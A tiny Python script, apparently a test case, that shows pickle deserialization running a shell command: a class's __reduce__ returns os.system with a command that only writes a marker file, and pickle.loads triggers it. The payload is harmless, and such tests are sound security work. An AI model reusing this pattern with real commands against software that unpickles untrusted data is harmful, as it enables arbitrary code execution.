# Have a pickle start a command.
# earns: ok
import os
import pickle


class Attack:
    def __reduce__(self):
        return os.system, (f"echo reached > {MARKER}.reached",)


pickle.loads(pickle.dumps(Attack()))
